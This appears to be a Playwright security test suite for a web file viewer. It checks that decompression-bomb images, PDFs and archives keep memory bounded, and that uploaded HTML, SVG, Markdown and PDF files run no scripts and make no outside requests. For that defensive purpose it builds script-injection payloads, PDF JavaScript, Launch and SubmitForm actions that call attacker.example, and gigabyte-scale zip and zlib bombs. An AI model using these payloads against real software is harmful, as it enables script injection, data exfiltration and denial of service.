import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { bombPng, imageSamples } from '../support/sample-images';
import { deflatedZeros, jpegClaiming, pdfOfStream, pdfText, rawZip, svgOfEntities, svgOfNestedUse, zipOfMany, zlibZeros } from '../support/hostile-files';
import { writePdf } from '../support/pdf-writer';
import { zipOf } from '../support/zip-files';
import { expect, test } from './fixture';
import { place } from './support/places';
import { text } from './support/texts';
import { openRow, uploadAll } from './support/viewed-files';
import type { Workspace } from './support/workspace';

// Each file is made by the test and is small on disk. The page must stay usable, with its memory bounded.

/** Processor time of the page's thread while a file is opened. No single step can be longer. */
const maxThreadSeconds = 1.5;
const maxRendererMebibytes = 1536;
const gibibyte = 1024 ** 3;

const close = (page: Page): Promise<void> => place(page, text('files', 'desktop')).click();
const share = (page: Page) => page.getByRole('main').getByRole('button', { name: text('sharing', 'share'), exact: true });
const message = (page: Page) => page.getByRole('alert').filter({ hasText: text('files', 'download') });
const picture = (page: Page, name: string) => page.getByRole('main').getByRole('img', { name, exact: true });
const sheet = (page: Page) => page.getByRole('main').getByRole('region', { name: text('viewer', 'pdfPage', { page: '1' }), exact: true });

/** Measures the page's thread and the memory of its processes. */
const measure = async (workspace: Workspace, page: Page) => {
  const session = await page.context().newCDPSession(page);
  await session.send('Performance.enable', { timeDomain: 'threadTicks' });
  const threadSeconds = async (): Promise<number> => (await session.send('Performance.getMetrics')).metrics.find(({ name }) => name === 'ThreadTime')?.value ?? Number.NaN;
  const browser = page.context().browser();
  if (!browser || workspace.host.kind !== 'browser') throw new Error('This spec measures a browser.');
  const program = await browser.newBrowserCDPSession();
  /** The largest that a renderer was, since it started. */
  const peakBytes = async (): Promise<number> => {
    const { processInfo } = await program.send('SystemInfo.getProcessInfo');
    const peaks = await Promise.all(processInfo.filter(({ type }) => type === 'renderer').map(async ({ id }) => {
      const status = await readFile(`/proc/${id}/status`, 'utf8').catch(() => '');
      return Number(/^VmHWM:\s+(\d+) kB$/m.exec(status)?.[1] ?? 0) * 1024;
    }));
    return Math.max(0, ...peaks);
  };
  return { threadSeconds, peakBytes };
};

/** Opens files one by one, checks the content of each page, and limits its cost. */
const openEach = async (workspace: Workspace, page: Page, names: readonly string[], check: (name: string) => Promise<void>, maxSeconds = maxThreadSeconds): Promise<void> => {
  const { threadSeconds, peakBytes } = await measure(workspace, page);
  const costs: Record<string, { seconds: number; mebibytes: number }> = {};
  for (const name of names) {
    await test.step(name, async () => {
      const before = await threadSeconds();
      await openRow(page, name);
      await check(name);
      await expect(share(page)).toBeVisible();
      costs[name] = { seconds: Math.round((await threadSeconds() - before) * 1000) / 1000, mebibytes: Math.round(await peakBytes() / 1024 ** 2) };
      await close(page);
    });
  }
  for (const [name, { seconds, mebibytes }] of Object.entries(costs)) {
    expect.soft(seconds, `Seconds of the page's thread for ${name}`).toBeLessThan(maxSeconds);
    expect.soft(mebibytes, `MiB of the largest renderer after ${name}`).toBeLessThan(maxRendererMebibytes);
  }
};

const expectMessages = (page: Page, messages: Readonly<Record<string, Parameters<typeof text<'viewer'>>[1]>>) => async (name: string): Promise<void> => {
  const key = messages[name];
  if (key === undefined) throw new Error(`No message is expected for ${name}.`);
  await expect(message(page)).toContainText(text('viewer', key), { timeout: 40_000 });
};

test('pictures that claim or have too many pixels are not decoded', async ({ workspace }) => {
  test.setTimeout(180_000);
  const page = await workspace.signUp();
  const jpeg = Buffer.from(await imageSamples.jpeg());
  await uploadAll(page, {
    'lying.png': Buffer.from(bombPng(50_000, 50_000, 100)), 'bomb.png': Buffer.from(bombPng(20_000, 20_000)), 'lying.jpg': jpegClaiming(jpeg, 50_000, 50_000),
    'use.svg': svgOfNestedUse(9), 'entities.svg': svgOfEntities(9), 'cut.jpg': jpeg.subarray(0, jpeg.length / 2),
  });
  await openEach(workspace, page, ['lying.png', 'bomb.png', 'lying.jpg', 'use.svg', 'entities.svg'], expectMessages(page, {
    'lying.png': 'imageUnsupported', 'bomb.png': 'contentTooLarge', 'lying.jpg': 'imageUnsupported', 'use.svg': 'contentTooLarge', 'entities.svg': 'contentTooLarge',
  }));
  // A cut photograph shows what it has.
  await openEach(workspace, page, ['cut.jpg'], async (name) => { await expect.poll(() => picture(page, name).evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(800); });
});

test('PDFs that grow beyond the limit, are huge or cut off leave the page usable', async ({ workspace }) => {
  test.setTimeout(180_000);
  const page = await workspace.signUp();
  const long = writePdf({ pages: Array.from({ length: 30 }, (_, index) => [`Paper number ${index + 1}`]) });
  await uploadAll(page, {
    'bomb.pdf': pdfOfStream(zlibZeros(4 * gibibyte, 32)), 'huge.pdf': pdfOfStream(pdfText('A huge page'), { mediaBox: '0 0 1000000 1000000' }), 'cut.pdf': long.subarray(0, long.length / 2),
    'nothing.pdf': long.subarray(0, 200),
  });
  // Within 30 s its worker comes to the limit of memory, or the page says that it is not drawn.
  const refused = message(page).filter({ hasText: text('viewer', 'contentTooLarge') }).or(page.getByText(text('viewer', 'pdfPageLate')));
  await openEach(workspace, page, ['bomb.pdf'], async () => { await expect(refused).toBeVisible({ timeout: 60_000 }); }, 3);
  // Both end before the trailer, without which pdf.js cannot find the pages.
  await openEach(workspace, page, ['nothing.pdf', 'cut.pdf'], expectMessages(page, { 'nothing.pdf': 'pdfFailed', 'cut.pdf': 'pdfFailed' }));
  await openEach(workspace, page, ['huge.pdf'], async () => { await expect(sheet(page)).toContainText('A huge page'); });
});

test('archives and office files that grow beyond the limit leave the page usable', async ({ workspace }) => {
  test.setTimeout(240_000);
  const page = await workspace.signUp();
  const zeros = deflatedZeros(3 * gibibyte);
  const inner = rawZip([{ name: 'zeros.bin', compressed: zeros, claimedBytes: 3 * gibibyte }]);
  const bomb = { compressed: zeros, claimedBytes: 3 * gibibyte };
  await uploadAll(page, {
    'ratio.zip': inner, 'lying.zip': rawZip([{ name: 'zeros.bin', compressed: zeros, claimedBytes: 10 }]), 'nested.zip': await zipOf(Object.fromEntries(Array.from({ length: 16 }, (_, index) => [`lib ${index}.zip`, inner.subarray(0, 100_000)]))),
    'million.zip': zipOfMany(1_000_000),
    'bomb.xlsx': rawZip([{ name: 'xl/workbook.xml', compressed: deflatedZeros(1, 32), claimedBytes: 16 * 1024 ** 2 }, { name: 'xl/sharedStrings.xml', ...bomb }]),
    'bomb.docx': rawZip([{ name: '[Content_Types].xml', compressed: deflatedZeros(1, 32), claimedBytes: 16 * 1024 ** 2 }, { name: 'word/document.xml', ...bomb }]),
    'lying.docx': rawZip([{ name: '[Content_Types].xml', compressed: deflatedZeros(1, 32), claimedBytes: 16 * 1024 ** 2 }, { name: 'word/document.xml', compressed: zeros, claimedBytes: 1_000 }]),
    'bomb.pptx': rawZip([{ name: 'docProps/thumbnail.jpeg', compressed: zeros, claimedBytes: 1_000 }]),
  });
  const row = (name: string) => page.getByRole('main').getByRole('row').filter({ hasText: name });
  // The 100,000 entries that are listed arrive in 20 messages, so no step takes long.
  const shown: Readonly<Record<string, string>> = { 'ratio.zip': 'zeros.bin', 'lying.zip': 'zeros.bin', 'nested.zip': 'lib 15.zip', 'million.zip': '0000000.md' };
  await openEach(workspace, page, Object.keys(shown), async (name) => { await expect(row(shown[name] ?? '')).toBeVisible({ timeout: 40_000 }); }, 3);
  await openEach(workspace, page, ['bomb.xlsx', 'bomb.docx', 'lying.docx'], expectMessages(page, { 'bomb.xlsx': 'contentTooLarge', 'bomb.docx': 'contentTooLarge', 'lying.docx': 'contentUnreadable' }));
  // A preview above its limit is none, so the details are shown.
  await openEach(workspace, page, ['bomb.pptx'], async (name) => { await expect(page.getByRole('main').getByRole('definition').filter({ hasText: name })).toBeVisible({ timeout: 40_000 }); });
});

test('nothing in a file is executed: no script runs, no address is requested, no window opens', async ({ workspace }) => {
  const page = await workspace.signUp();
  const attack = 'top.attacked = true; fetch("https://attacker.example/fetched"); open("https://attacker.example/opened"); new Image().src = "https://attacker.example/image";';
  const markup = `<script>${attack}</script><img src="https://attacker.example/seen.png" onerror='${attack}'><iframe src="https://attacker.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://attacker.example/away"><link rel="stylesheet" href="https://attacker.example/style.css">`;
  await uploadAll(page, {
    'page.html': `<!doctype html><title>Page</title>${markup}<p>Shown as its source`,
    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload='${attack}'>Shown as its source</body></html>`,
    'notes.md': `# Notes\n\n${markup}\n\n![seen](https://attacker.example/seen.png)\n\n[press](javascript:top.attacked=true)\n`,
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" onload='${attack}'><script>${attack.replaceAll('"', '&quot;')}</script><style>@import url("https://attacker.example/style.css");</style><image xlink:href="https://attacker.example/seen.png" width="10" height="10"/><foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/frame"/></foreignObject></svg>`,
    'acting.pdf': pdfOfStream(pdfText('A form'), {
      catalog: `/OpenAction<</S/JavaScript/JS(${attack.replaceAll(/[()]/g, '\\$&')})/Next<</S/Launch/F(calculator)/Next<</S/URI/URI(https://attacker.example/uri)>>>>>>/AA<</WC<</S/JavaScript/JS(top.attacked = true)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(top.attacked = true)>>]>>>>/AcroForm<</Fields[5 0 R]/NeedAppearances true/XFA(<xdp/>)>>`,
      page: '/AA<</O<</S/SubmitForm/F(https://attacker.example/form)>>>>/Annots[5 0 R 6 0 R]',
      objects: '5 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(typed)/Rect[72 600 300 640]/AA<</F<</S/JavaScript/JS(top.attacked = true)>>>>/A<</S/SubmitForm/F(https://attacker.example/form)>>>>endobj\n6 0 obj<</Type/Annot/Subtype/Link/Rect[72 500 300 540]/A<</S/Launch/F(calculator)>>>>endobj\n',
    }),
  });
  const foreign: string[] = [];
  const windows: string[] = [];
  const { origin } = new URL(page.url());
  page.context().on('request', (request) => { if (/^https?:/.test(request.url()) && new URL(request.url()).origin !== origin) foreign.push(request.url()); });
  page.context().on('page', (opened) => { windows.push(opened.url()); });
  page.on('dialog', (dialog) => { windows.push(dialog.message()); void dialog.dismiss(); });
  const source = (name: string) => page.getByRole('main').getByRole('document', { name });
  const shows: Readonly<Record<string, () => Promise<void>>> = {
    'page.html': async () => { await expect(source('page.html')).toContainText('<script>top.attacked = true'); },
    'page.xhtml': async () => { await expect(source('page.xhtml')).toContainText('onload'); },
    'notes.md': async () => { await expect(page.getByRole('main').getByRole('heading', { name: 'Notes', exact: true })).toBeVisible(); },
    'drawing.svg': async () => { await expect.poll(() => picture(page, 'drawing.svg').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(320); },
    'acting.pdf': async () => {
      await expect(sheet(page)).toContainText('A form');
      await expect(sheet(page).getByRole('button')).toHaveCount(0);
      await expect(sheet(page).locator('input, textarea')).toHaveCount(0);
    },
  };
  for (const [name, show] of Object.entries(shows)) {
    await openRow(page, name);
    await show();
    await expect(share(page)).toBeVisible();
    await close(page);
  }
  expect(foreign).toEqual([]);
  expect(windows).toEqual([]);
  expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
});
